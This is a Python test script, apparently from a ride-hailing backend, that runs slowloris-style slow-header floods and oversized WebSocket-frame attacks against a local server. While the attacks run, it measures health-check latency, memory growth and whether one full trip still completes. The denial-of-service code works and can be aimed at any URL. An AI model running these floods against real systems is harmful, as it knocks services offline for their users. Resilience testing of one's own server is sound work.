#!/usr/bin/env python3
"""Connection attacks against a running Rickshaw (issue 11, item 6), measured from outside:

  slow-headers  N connections (default 10,000, spread over client addresses 127.0.x.y) each
                send half a request head and then one header line every few seconds, reopened
                when the server closes them; meanwhile GET /healthz is timed every 100 ms from
                127.0.0.1 and one whole product trip (sign-up, online, preview, book, accept,
                arrive, start, complete) runs through the API.
  big-frames    N WebSocket sessions (default 1,000) on the course socket each announce one
                16 MiB frame and trickle its payload; the server's resident memory is sampled.

    python3 scripts/attack_sockets.py slow-headers --url http://127.0.0.1:8080 --pid <pid>
    python3 scripts/attack_sockets.py big-frames --url http://127.0.0.1:8080 --pid <pid>

Prints what it measured and exits 1 if a target is missed: the process died; /healthz slower than
100 ms (or unanswered) at any sample; the trip did not complete; memory grew by more than 200 MiB.
Standard library only; raises its own open-files limit to the hard limit.
"""

import argparse
import asyncio
import base64
import json
import multiprocessing
import os
import resource
import struct
import sys
import time
import uuid
from collections import Counter
from urllib.parse import urlparse

from attack_logins import rss_mib  # the same directory: run as scripts/attack_sockets.py


def address(n):
    """The n-th attacking client address (127.0.1.1 … 127.0.250.250)."""
    return f"127.0.{1 + (n // 250) % 250}.{1 + n % 250}"


async def request(host, port, method, path, body=None, token=None, timeout=10.0):
    """One HTTP/1.1 request on a fresh connection from 127.0.0.1: (status, JSON or None, seconds)."""
    started = time.monotonic()
    payload = json.dumps(body).encode() if body is not None else b""
    head = f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n"
    if body is not None:
        head += f"Content-Type: application/json\r\nContent-Length: {len(payload)}\r\n"
    if token:
        head += f"Authorization: Bearer {token}\r\n"
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(host, port, local_addr=("127.0.0.1", 0)), timeout)
    except Exception:
        return "connect-failed", None, time.monotonic() - started
    try:
        writer.write(head.encode() + b"\r\n" + payload)
        await writer.drain()
        raw = await asyncio.wait_for(reader.read(), timeout)
    except Exception:
        return "no-answer", None, time.monotonic() - started
    finally:
        writer.close()
    seconds = time.monotonic() - started
    head, _, rest = raw.partition(b"\r\n\r\n")
    parts = head.split(b" ", 2)
    status = parts[1].decode() if len(parts) > 1 else "no-answer"
    if b"chunked" in head.lower():
        body_bytes, chunks = b"", rest
        while chunks:
            size_line, _, chunks = chunks.partition(b"\r\n")
            size = int(size_line or b"0", 16)
            if size == 0:
                break
            body_bytes += chunks[:size]
            chunks = chunks[size + 2:]
        rest = body_bytes
    try:
        data = json.loads(rest) if rest else None
    except ValueError:
        data = None
    return status, data, seconds


async def whole_trip(host, port):
    """A rider and a driver through one whole trip; the list of steps that went wrong."""
    async def account(role):
        email = f"{role}-{uuid.uuid4().hex}@example.com"
        body = {"email": email, "password": "correct horse battery", "name": f"A {role}", "role": role}
        await request(host, port, "POST", "/v1/auth/signup", body)
        status, tokens, _ = await request(host, port, "POST", "/v1/auth/login",
                                          {"email": email, "password": "correct horse battery"})
        if status != "200":
            raise RuntimeError(f"{role} login: {status}")
        return tokens["access_token"]

    rider, driver = await account("rider"), await account("driver")
    pickup, dropoff = {"lat": 23.7580, "lng": 90.3895}, {"lat": 23.7806, "lng": 90.4074}
    steps = [
        ("PUT", "/v1/drivers/me/vehicle", {"package": "car", "plate": "DHAKA-GA-11-2233",
                                            "model": "Toyota Axio"}, driver),
        ("POST", "/v1/drivers/me/status", {"status": "online"}, driver),
        ("POST", "/v1/drivers/me/location", {"lat": 23.7581, "lng": 90.3896}, driver),
    ]
    for method, path, body, token in steps:
        status, answer, _ = await request(host, port, method, path, body, token)
        if not status.startswith("2"):
            raise RuntimeError(f"{path}: {status} {answer}")
    status, preview, _ = await request(host, port, "POST", "/v1/trips/preview",
                                       {"pickup": pickup, "dropoff": dropoff}, rider)
    if status != "200":
        raise RuntimeError(f"preview: {status} {preview}")
    status, trip, _ = await request(host, port, "POST", "/v1/trips",
                                    {"quote_id": preview["quote_id"], "package": "car"}, rider)
    if status != "201":
        raise RuntimeError(f"booking: {status} {trip}")
    trip_id = trip["id"]
    for _ in range(200):
        status, seen, _ = await request(host, port, "GET", f"/v1/trips/{trip_id}", None, driver)
        if status == "200" and seen["status"] == "offered":
            break
        await asyncio.sleep(0.1)
    else:
        raise RuntimeError("the trip was never offered")
    for action in ["accept", "arrive", "start", "complete"]:
        status, answer, _ = await request(host, port, "POST", f"/v1/trips/{trip_id}/{action}",
                                          None, driver, timeout=15)
        if status != "200":
            raise RuntimeError(f"{action}: {status} {answer}")
    return trip_id


def probe(host, port, duration, results):
    """In its own process: GET /healthz every 100 ms from 127.0.0.1, and one whole trip 5 s in;
    puts (latencies, failures, trip) on `results`."""
    async def run():
        stop = time.monotonic() + duration
        health, failures, trip = [], Counter(), {}

        async def healthz():
            await asyncio.sleep(2)  # let the attack build up
            while time.monotonic() < stop:
                status, _, seconds = await request(host, port, "GET", "/healthz", timeout=2)
                health.append(seconds)
                if status != "200":
                    failures[status] += 1
                await asyncio.sleep(0.1)

        async def trip_through():
            await asyncio.sleep(5)
            try:
                trip["id"] = await whole_trip(host, port)
            except Exception as e:  # noqa: BLE001 - reported, not raised
                trip["error"] = str(e)

        await asyncio.gather(healthz(), trip_through())
        return health, dict(failures), trip

    results.put(asyncio.run(run()))


async def slow_headers(args, host, port):
    stop = time.monotonic() + args.duration
    opened, closed_by_server, refused = Counter(), Counter(), Counter()
    held = 0

    async def slow(n):
        nonlocal held
        while time.monotonic() < stop:
            try:
                reader, writer = await asyncio.open_connection(host, port, local_addr=(address(n), 0))
            except Exception:
                refused["connect"] += 1
                await asyncio.sleep(1)
                continue
            opened["connections"] += 1
            held += 1
            try:
                writer.write(f"GET /healthz HTTP/1.1\r\nHost: {host}\r\n".encode())
                await writer.drain()
                while time.monotonic() < stop:
                    await asyncio.sleep(args.trickle)
                    writer.write(b"X-Trickle: 1\r\n")
                    await writer.drain()
                    if reader.at_eof():
                        raise ConnectionError
            except Exception:
                closed_by_server["closed"] += 1
            finally:
                held -= 1
                writer.close()

    # The probes run in their own process: the attackers' thousands of coroutines must not
    # delay the measurement of the server.
    probes = multiprocessing.get_context("spawn").Queue()
    prober = multiprocessing.get_context("spawn").Process(
        target=probe, args=(host, port, args.duration, probes))
    prober.start()
    health, health_failures, trip = [], Counter(), {}

    peak = before = rss_mib(args.pid)

    async def progress():
        nonlocal peak
        while time.monotonic() < stop:
            await asyncio.sleep(5)
            now = rss_mib(args.pid)
            if now is None:
                return
            peak = max(peak, now)
            print(f"held {held}, opened {opened['connections']}, closed by server "
                  f"{closed_by_server['closed']}, refused {refused['connect']}, "
                  f"rss {now:.0f} MiB", file=sys.stderr)

    await asyncio.gather(progress(), *(slow(n) for n in range(args.connections)))
    health, failures, trip = probes.get(timeout=60)
    prober.join(5)
    health_failures.update(failures)
    alive = os.path.exists(f"/proc/{args.pid}")
    worst = max(health) if health else float("inf")
    print(f"slow connections: opened {opened['connections']}, closed by the server "
          f"{closed_by_server['closed']}, not accepted {refused['connect']}")
    ordered = sorted(health) or [float("nan")]
    print(f"/healthz: {len(health)} samples, p50 {ordered[len(ordered) // 2] * 1000:.1f} ms, "
          f"p99 {ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))] * 1000:.1f} ms, "
          f"worst {worst * 1000:.1f} ms, failures {dict(health_failures)}")
    print(f"trip: {trip}")
    print(f"server: {'alive' if alive else 'DEAD'}, rss {before:.0f} → peak {peak:.0f} MiB")
    missed = []
    if not alive:
        missed.append("the process died")
    if worst > 0.1 or health_failures:
        missed.append(f"/healthz worst {worst * 1000:.0f} ms, failures {dict(health_failures)}")
    if "id" not in trip:
        missed.append(f"the trip did not complete: {trip.get('error')}")
    return missed


async def big_frames(args, host, port):
    before = rss_mib(args.pid)
    peak = before
    outcomes = Counter()

    async def announce(n):
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=(address(n), 0))
        except Exception:
            outcomes["not accepted"] += 1
            return
        key = base64.b64encode(os.urandom(16)).decode()
        writer.write((f"GET /communication HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\n"
                      f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
                      "Sec-WebSocket-Version: 13\r\n\r\n").encode())
        await writer.drain()
        try:
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
        except Exception:
            outcomes["no upgrade"] += 1
            writer.close()
            return
        if b" 101 " not in head.split(b"\r\n")[0]:
            outcomes["upgrade refused"] += 1
            writer.close()
            return
        # A masked text frame announcing 16 MiB, then its payload a kilobyte at a time.
        length = 16 * 1024 * 1024
        writer.write(bytes([0x81, 0x80 | 127]) + struct.pack(">Q", length) + os.urandom(4))
        sent = 0
        try:
            while sent < length and time.monotonic() < stop:
                writer.write(b"x" * 1024)
                await writer.drain()
                sent += 1024
                if reader.at_eof():
                    break
                await asyncio.sleep(0.05)
            data = await asyncio.wait_for(reader.read(64), 5)
            outcomes["closed by the server" if data or reader.at_eof() else "still open"] += 1
        except Exception:
            outcomes["closed by the server"] += 1
        finally:
            writer.close()

    stop = time.monotonic() + args.duration

    async def memory():
        nonlocal peak
        while time.monotonic() < stop:
            now = rss_mib(args.pid)
            if now is None:
                return
            peak = max(peak, now)
            await asyncio.sleep(0.1)

    await asyncio.gather(memory(), *(announce(n) for n in range(args.connections)))
    alive = os.path.exists(f"/proc/{args.pid}")
    print(f"16 MiB frames announced on {args.connections} sockets: {dict(outcomes)}")
    print(f"server: {'alive' if alive else 'DEAD'}, rss {before:.0f} → peak {peak:.0f} MiB "
          f"(+{peak - before:.0f})")
    missed = []
    if not alive:
        missed.append("the process died")
    if peak - before > 200:
        missed.append(f"memory grew {peak - before:.0f} MiB > 200 MiB")
    return missed


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("attack", choices=["slow-headers", "big-frames"])
    parser.add_argument("--url", default="http://127.0.0.1:8080")
    parser.add_argument("--pid", type=int, required=True, help="the server's process id")
    parser.add_argument("--connections", type=int)
    parser.add_argument("--duration", type=float, default=30.0)
    parser.add_argument("--trickle", type=float, default=5.0,
                        help="seconds between header lines (slow-headers)")
    args = parser.parse_args()
    if args.connections is None:
        args.connections = 10_000 if args.attack == "slow-headers" else 1_000
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    url = urlparse(args.url)
    host, port = url.hostname, url.port or 80
    attack = slow_headers if args.attack == "slow-headers" else big_frames
    missed = asyncio.run(attack(args, host, port))
    if missed:
        sys.exit("targets missed: " + "; ".join(missed))
    print("targets met")


if __name__ == "__main__":
    main()
